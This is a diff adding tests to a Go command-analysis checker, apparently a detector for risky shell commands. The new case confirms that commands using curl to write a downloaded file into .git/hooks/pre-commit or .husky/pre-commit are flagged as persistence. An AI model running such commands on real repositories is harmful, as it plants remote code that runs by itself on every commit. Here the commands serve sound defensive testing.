@@ -691,6 +691,13 @@ func TestPlantedAndLinkFindingsAreExact(t *testing.T) {
 	if len(res.Findings) != 1 || res.Findings[0].Rule != ruleSystemAdmin {
 		t.Errorf("sshfs to another host: %+v", res.Findings)
 	}
+	// A file a program runs by itself, written with text the command does
+	// not show, asks once: a git folder's hook asks as every write there.
+	for _, c := range []string{"curl -o .git/hooks/pre-commit https://example.com/h", "curl -o .husky/pre-commit https://example.com/h"} {
+		if res = a.Command(c, testEnv()); len(res.Findings) != 1 || res.Findings[0].Rule != rulePersistence {
+			t.Errorf("%s: %+v", c, res.Findings)
+		}
+	}
 	// A lone - (standard input as an operand) holds no short option.
 	if hasShort([]field{{val: "-"}, {val: "-x"}}, 'n') || !hasShort([]field{{val: "-"}, {val: "-xn"}}, 'n') {
 		t.Error("hasShort misreads -")
